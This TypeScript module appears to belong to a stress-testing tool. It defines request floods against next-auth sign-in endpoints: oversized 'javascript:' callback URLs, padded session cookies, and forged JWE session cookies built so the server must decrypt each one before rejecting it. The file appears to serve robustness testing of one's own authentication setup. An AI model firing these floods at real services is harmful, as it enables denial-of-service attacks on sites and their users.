import { type Attack, floodOf } from './attack';

const SESSION_REQUESTS = [
  { path: `/api/auth/signin?callbackUrl=javascript:${'x'.repeat(12_000)}`, headers: '' },
  { path: '/api/auth/session', headers: `cookie: next-auth.session-token=${'x'.repeat(400)}\r\n` },
  { path: '/api/auth/csrf', headers: '' },
  { path: '/api/auth/callback/credentials', headers: '' },
];

/** A JWE of the form that next-auth writes, with an invalid tag. */
function forgedCookie(n: number): string {
  const head = Buffer.from('{"alg":"dir","enc":"A256GCM"}').toString('base64url');
  const [vector, tag] = [12, 16].map((bytes) => Buffer.alloc(bytes, `${n} `).toString('base64url'));
  return `${head}..${vector}.${'x'.repeat(300)}.${tag}`;
}

/** Attacks on signing in. */
export const SESSION_ATTACKS: Record<string, Attack> = {
  // In turn: something that next-auth would log, a cookie to decrypt, a token to create, and a sign-in without a token.
  'sign-in': floodOf((n) => SESSION_REQUESTS[n % SESSION_REQUESTS.length] ?? { path: '/', headers: '' }),
  // A different cookie each time; only decrypting it shows that it is forged.
  'forged cookies': floodOf((n) => ({
    path: '/api/auth/session',
    headers: `cookie: next-auth.session-token=${forgedCookie(n)}\r\n`,
  })),
};
